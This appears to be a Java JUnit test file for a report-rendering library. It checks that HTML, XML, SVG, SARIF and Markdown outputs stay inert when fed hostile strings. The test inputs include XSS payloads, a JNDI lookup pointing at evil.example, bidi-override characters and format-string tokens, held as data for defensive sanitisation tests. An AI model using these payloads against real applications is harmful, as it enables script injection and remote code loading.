package io.cindertck.report.format;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.json.JsonMapper;
import io.cindertck.report.Content;
import io.cindertck.report.Result;
import io.cindertck.report.SampleResults;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Document;

/** Texts of a driver's in every place of a result, which no format obeys and no parser minds. */
final class HostileFormatsTest {
  /** What a file may take, in characters. */
  private static final int LONGEST = 400_000;

  private static final int LONGEST_PAGE = 2_600_000;

  private static final Pattern CALLED = Pattern.compile("@\\w|#\\d|\\b[0-9a-f]{40}\\b|://|www\\.");

  /** Made once for all tests: a megabyte in each place takes its time. */
  private static final Map<String, Map<String, String>> RENDERED = new ConcurrentHashMap<>();

  static String[] texts() {
    return new String[] {
      "<script>alert(1)</script><img src=x onerror=alert(1)>\"'></title></svg><!-- -->",
      "]]>\u0000\u0008\u001b[31mred\u001b[0m\ufffe\uffff\t\r\n\u0085\u2028",
      "\u202Eevil\u2066\u200F\u200B\uFEFF 😀 \uDC00 lone \uD800",
      "| a | b |\n|---|---|\n\\| `code` ``` ```` \\` ~~~\n# h\n***\n<details>\n\n</details>",
      "@user @org/team #123 GH-1 0123456789abcdef0123456789abcdef01234567 a@example.com",
      "[x](javascript:alert(1)) ![y](http://evil.example/z.png) <http://evil.example> www.evil.example"
          + " https://evil.example/a",
      "[a]: http://evil.example\n{0} {1} ${jndi:ldap://evil.example} %s %n \\u0041 &amp; &#64;user",
      "\n```\n</summary></details>\n\n@user\n\n<b>x</b>\n",
      "x".repeat(1_000_000),
      "`".repeat(100_000),
      "\u202e\u0301".repeat(50_000),
      "",
      " ",
    };
  }

  @ParameterizedTest
  @MethodSource("texts")
  void breakNoParserAndKeepNoHiddenCharacter(String text) throws Exception {
    rendered(text)
        .forEach(
            (name, content) -> {
              // A program is attached as it is, and evidence is there as a whole.
              if (!name.endsWith(".py") && !name.startsWith("evidence/")) {
                assertThat(content.length())
                    .as(name)
                    .isLessThan(name.equals("index.html") ? LONGEST_PAGE : LONGEST);
                assertThat(content.codePoints().filter(c -> c != '\n' && hidden(c)))
                    .as(name)
                    .isEmpty();
              }
              if (name.endsWith(".json") || name.endsWith(".sarif")) {
                parsed(name, content);
              }
            });
  }

  @ParameterizedTest
  @MethodSource("texts")
  void areValidXml(String text) throws Exception {
    JunitSchemas.validate(bytes(text, "junit.xml"));
    Document svg = XmlText.parse(bytes(text, "badge.svg"));
    assertThat(svg.getElementsByTagName("script").getLength()).isZero();
  }

  @ParameterizedTest
  @MethodSource("texts")
  void areValidSarif(String text) throws IOException {
    byte[] sarif = bytes(text, "report.sarif");

    assertThat(SarifSchema.errors(sarif)).isEmpty();
    for (String message : SarifSchema.tree(sarif).findValuesAsText("text")) {
      assertThat(message)
          .doesNotContainPattern("(?<!\\\\)]\\(")
          .doesNotContainPattern("(?<!\\{)\\{\\d+}");
    }
    for (String markdown : SarifSchema.tree(sarif).findValuesAsText("markdown")) {
      assertInert(Gfm.of(markdown));
      assertThat(Gfm.of(markdown).html).isEmpty();
    }
  }

  @ParameterizedTest
  @MethodSource("texts")
  void takeNoEffectInMarkdown(String text) throws IOException {
    String markdown = text(text, "summary.md");
    Gfm told = Gfm.of(markdown);
    Gfm harmless = Gfm.of(text("x", "summary.md"));

    assertInert(told);
    assertThat(told.html).isEqualTo(harmless.html);
    assertThat(told.tables).isEqualTo(harmless.tables);
    assertThat(told.cells).isEqualTo(harmless.cells);
    assertThat(told.prose.toString().replaceAll("\\s", ""))
        .isEqualTo(harmless.prose.toString().replaceAll("\\s", ""));
    assertThat(markdown.length()).isLessThan(65_536);
  }

  /** What the formats make of a text; the result itself has tests of its own. */
  private static Map<String, String> rendered(String text) throws IOException {
    Map<String, String> files = RENDERED.get(text);
    if (files == null) {
      Result result = SampleResults.hostile(text);
      files = new TreeMap<>();
      for (Format format : Formats.ALL) {
        if (format != Formats.JSON) {
          for (Map.Entry<String, Content> file : format.files(result).entrySet()) {
            files.put(file.getKey(), new String(file.getValue().bytes(), StandardCharsets.UTF_8));
          }
        }
      }
      RENDERED.put(text, files);
    }
    return files;
  }

  private static String text(String text, String name) throws IOException {
    return Objects.requireNonNull(rendered(text).get(name));
  }

  private static byte[] bytes(String text, String name) throws IOException {
    return text(text, name).getBytes(StandardCharsets.UTF_8);
  }

  private static void assertInert(Gfm told) {
    assertThat(told.links).isEmpty();
    assertThat(told.prose.toString()).doesNotContainPattern(CALLED);
  }

  private static void parsed(String name, String content) {
    try {
      new JsonMapper().readTree(content);
    } catch (IOException e) {
      // A scenario that is too long is cut, and says so.
      assertThat(content).as(name).contains("more characters, see conformance.json");
    }
  }

  private static boolean hidden(int c) {
    int type = Character.getType(c);
    return type == Character.CONTROL || type == Character.FORMAT || type == Character.SURROGATE;
  }
}
